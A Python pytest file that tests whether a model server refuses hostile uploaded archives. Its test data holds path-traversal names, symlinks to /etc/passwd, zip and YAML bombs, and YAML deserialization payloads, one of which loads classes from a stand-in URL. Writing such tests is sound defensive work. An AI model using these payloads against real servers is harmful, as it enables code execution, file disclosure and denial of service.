"""Model archives of strangers: what they hold stays in their folder, is bounded, and makes no object of a class."""

import gzip
import io
import json
import shutil
import tarfile
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from werkzeug.test import TestResponse

from servekit.archive import unpack
from servekit.errors import ArchiveRefused
from tests.security.apps import Apps
from tests.security.watch import Watch

MANIFEST = {"model": {"modelName": "evil", "handler": "h.py", "configFile": "model-config.yaml"}}
HANDLER = b"def handle(data, context):\n    return data\n"
Write = Callable[[Path, dict[str, bytes]], Path]


def write_zip(path: Path, files: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(zipfile.ZipInfo(name), content)
    return path


def write_tar(path: Path, files: dict[str, bytes], *others: tarfile.TarInfo) -> Path:
    with tarfile.open(path, "w:gz") as archive:
        for name, content in files.items():
            entry = tarfile.TarInfo(name)
            entry.size = len(content)
            archive.addfile(entry, io.BytesIO(content))
        for entry in others:
            archive.addfile(entry)
    return path


def special(name: str, kind: bytes, target: str = "") -> tarfile.TarInfo:
    entry = tarfile.TarInfo(name)
    entry.type, entry.linkname = kind, target
    return entry


def files(config: str = "", **manifest: Any) -> dict[str, bytes]:
    """Return the files of an archive that would do no harm."""
    content = {"model": {**MANIFEST["model"], **manifest}}
    return {"MAR-INF/MANIFEST.json": json.dumps(content).encode(), "h.py": HANDLER, "model-config.yaml": config.encode()}


def register(apps: Apps, path: Path) -> TestResponse:
    """Register an archive that lies in the store, by TorchServe's API, and take it away."""
    try:
        return apps.ask("management", "POST", f"/models?url={path.name}")
    finally:
        path.unlink()


def refused(apps: Apps, watched: Watch, make: Callable[[], Path]) -> str:
    """Register what `make` writes; return the message, after a look at what has been left behind."""
    with watched.off():
        path = make()
        before = sorted(apps.root.parent.rglob("*"))
    answer = register(apps, path)
    assert (answer.status_code, answer.json["type"]) == (400, "InvalidModelException"), answer.data  # type: ignore[index]
    with watched.off():
        assert sorted(apps.root.parent.rglob("*")) == [each for each in before if each != path]
    assert str(apps.root) not in answer.json["message"]  # type: ignore[index]
    return str(answer.json["message"])  # type: ignore[index]


def test_an_archive_that_does_no_harm_is_registered(apps: Apps) -> None:
    assert register(apps, write_zip(apps.archives / "evil.mar", files("minWorkers: 1"))).status_code == 200
    assert apps.ask("management", "DELETE", "/models/evil").status_code == 200


SLIPS = (
    *("../../slipped", "a/../../../slipped", "/tmp/slipped", "./../slipped", "//host/share/slipped"),
    *("..\\slipped", "C:\\slipped", "a\nb"),
)


@pytest.mark.parametrize("write", [write_zip, write_tar])
@pytest.mark.parametrize("name", SLIPS)
def test_cve_2026_109156_no_name_leads_out_of_the_archive(apps: Apps, watched: Watch, write: Write, name: str) -> None:
    """MLServer unpacked environments with tarfile's old default; so did MLflow (CVE-2023-6831) with zip files."""
    ending = "mar" if write is write_zip else "tar.gz"
    message = refused(apps, watched, lambda: write(apps.archives / f"evil.{ending}", {**files(), name: b"x"}))
    assert "leads out" in message or "unprintable" in message
    assert not Path("/tmp/slipped").exists()


ENTRIES = {
    "symlink": [special("out", tarfile.SYMTYPE, "/etc"), special("out/passwd", tarfile.REGTYPE)],
    "symlink upward": [special("out", tarfile.SYMTYPE, "../.."), special("out/x", tarfile.REGTYPE)],
    "symlink to itself": [special("x", tarfile.SYMTYPE, "x")],
    "hard link": [special("weights", tarfile.LNKTYPE, "/etc/passwd")],
    "hard link inside": [special("weights", tarfile.LNKTYPE, "h.py")],
    "character device": [special("null", tarfile.CHRTYPE)],
    "block device": [special("sda", tarfile.BLKTYPE)],
    "pipe": [special("weights", tarfile.FIFOTYPE)],
    "sparse": [special("zeros", tarfile.GNUTYPE_SPARSE)],
    "unknown": [special("x", b"Z")],
}


@pytest.mark.parametrize("case", ENTRIES)
def test_cve_2026_109156_no_link_no_device_and_no_hole(apps: Apps, watched: Watch, case: str) -> None:
    message = refused(apps, watched, lambda: write_tar(apps.archives / "evil.tar.gz", files(), *ENTRIES[case]))
    assert "a link, a device, or a file with holes" in message or "damaged" in message


def test_cve_2026_109156_a_symlink_in_a_zip(apps: Apps, watched: Watch) -> None:
    def make() -> Path:
        path = write_zip(apps.archives / "evil.mar", files())
        with zipfile.ZipFile(path, "a") as archive:
            entry = zipfile.ZipInfo("out")
            entry.create_system, entry.external_attr = 3, 0o120777 << 16
            archive.writestr(entry, "/etc/passwd")
        return path

    assert "a link or a device" in refused(apps, watched, make)


def test_ten_gigabytes_announced_and_ten_thousand_files_are_refused(apps: Apps, watched: Watch) -> None:
    def announced() -> Path:
        raw = io.BytesIO()
        with tarfile.open(fileobj=raw, mode="w") as archive:
            entry = tarfile.TarInfo("zeros")
            entry.size = 10 << 30
            archive.fileobj.write(entry.tobuf())  # type: ignore[union-attr]
        path = apps.archives / "evil.tar.gz"
        path.write_bytes(gzip.compress(raw.getvalue(), 1))
        return path

    assert "too many for its size" in refused(apps, watched, announced)
    many = {f"{number}": b"" for number in range(10_001)}
    assert "more than 10000 files" in refused(apps, watched, lambda: write_zip(apps.archives / "evil.mar", many))


@pytest.mark.slow
def test_bombs_end_early(tmp_path: Path) -> None:
    """A gigabyte of zeros in a megabyte, and a million files; in a tar they are counted as they come."""
    zeros, many = tmp_path / "zeros.mar", {f"{number}": b"" for number in range(10_001)}
    with zipfile.ZipFile(zeros, "w", zipfile.ZIP_DEFLATED) as archive, archive.open("zeros", "w", force_zip64=True) as file:
        for _ in range(1024):
            file.write(bytes(1 << 20))
    (tmp_path / "many.mar").write_bytes(_directory(zipfile.ZipInfo("x"), 1_000_000))
    for path in (zeros, tmp_path / "many.mar", write_tar(tmp_path / "many.tar.gz", many)):
        with pytest.raises(ArchiveRefused):
            unpack(path, tmp_path / "model")
    assert not (tmp_path / "model").exists()


def _directory(entry: zipfile.ZipInfo, count: int) -> bytes:
    """Return the directory of a zip file that names `entry` so many times."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        archive.writestr(entry, b"")
    content = stream.getvalue()
    start, end = content.index(b"PK\x01\x02"), content.index(b"PK\x05\x06")
    repeated = content[start:end] * count
    closing = bytearray(content[end:])
    closing[12:16] = len(repeated).to_bytes(4, "little")
    closing[8:12] = b"\xff\xff\xff\xff"
    return content[:start] + repeated + bytes(closing)


TAGS = {
    "SnakeYAML's engine": "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ['http://x/']]]]",
    "a call": "a: !!python/object/apply:os.system ['touch {canary}']",
    "a call by new": "a: !!python/object/new:subprocess.Popen [['touch', '{canary}']]",
    "a module": "a: !!python/module:os",
    "a name": "a: !!python/name:os.system",
    "an object": "a: !!python/object:tests.security.hostile.Canary {{path: '{canary}'}}",
    "a tuple": "a: !!python/tuple [1]",
    "a tag of its own": "a: !evil x",
}
TEXTS = {
    "a billion laughs": "\n".join(
        ["a0: &a0 [x, x, x, x, x, x, x, x, x, x]"] + [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]" for n in range(1, 10)]
    ),
    "a value that holds itself": "a: &a [*a]",
    "deep": "a: " + "[" * 2000,
    "a list": "- 1",
    "a number as a name": "1: 2",
    "a list as a name": "? [a]\n: 1",
    "not a number": "a: .nan\nb: [.inf]\n? 1\n: 2",
    "a large file": "a: " + "x" * 70_000,
    "no UTF-8": "a: \udcff",
    "two documents": "a: 1\n---\nb: 2",
}


@pytest.mark.parametrize("case", TAGS)
def test_cve_2022_1471_a_configuration_makes_no_object(apps: Apps, watched: Watch, tmp_path: Path, case: str) -> None:
    """SnakeYAML made whatever class a configuration named: the last step of ShellTorch."""
    config = TAGS[case].format(canary=tmp_path / "canary")
    message = refused(apps, watched, lambda: write_zip(apps.archives / "evil.mar", files(config)))
    assert "could not determine a constructor" in message
    assert not (tmp_path / "canary").exists()


@pytest.mark.parametrize("case", TEXTS)
def test_cve_2022_1471_a_configuration_is_bounded(apps: Apps, watched: Watch, case: str) -> None:
    content = {**files(), "model-config.yaml": TEXTS[case].encode(errors="surrogateescape")}
    refused(apps, watched, lambda: write_zip(apps.archives / "evil.mar", content))


MANIFESTS: dict[str, dict[str, Any]] = {
    "handler above": {"handler": "../h.py"},
    "absolute handler": {"handler": "/etc/passwd"},
    "weights above": {"serializedFile": "../../models/linear/1/model.pth"},
    "model file elsewhere": {"modelFile": "/tmp/x.py"},
    "configuration elsewhere": {"configFile": "/etc/passwd"},
    "requirements elsewhere": {"requirementsFile": "../requirements.txt"},
    "a name with slashes": {"modelName": "../../x"},
    "a version with slashes": {"modelVersion": "../1"},
    "a name that is a list": {"modelName": ["x"]},
    "a backslash": {"handler": "..\\h.py"},
    "no such file": {"configFile": "none.yaml"},
}


@pytest.mark.parametrize("case", MANIFESTS)
def test_cve_2026_109156_a_manifest_names_nothing_outside(apps: Apps, watched: Watch, case: str) -> None:
    refused(apps, watched, lambda: write_zip(apps.archives / "evil.mar", files(**MANIFESTS[case])))


def test_a_folder_in_the_store_shows_nothing_by_its_links(apps: Apps, watched: Watch, tmp_path: Path) -> None:
    folder = apps.archives / "linked"
    with watched.off():
        (folder / "MAR-INF").mkdir(parents=True)
        (folder / "h.py").write_bytes(HANDLER)
        (folder / "MAR-INF" / "MANIFEST.json").write_text(json.dumps(MANIFEST))
        (folder / "model-config.yaml").symlink_to("/etc/passwd")
    answer = apps.ask("management", "POST", "/models?url=linked")
    assert answer.status_code == 400 and "leads out of the archive" in answer.json["message"]  # type: ignore[index]
    (folder / "MAR-INF" / "MANIFEST.json").unlink()
    (folder / "MAR-INF" / "MANIFEST.json").symlink_to("/etc/passwd")
    answer = apps.ask("management", "POST", "/models?url=linked")
    assert answer.status_code == 400 and "leads out of the archive" in answer.json["message"]  # type: ignore[index]
    shutil.rmtree(folder)
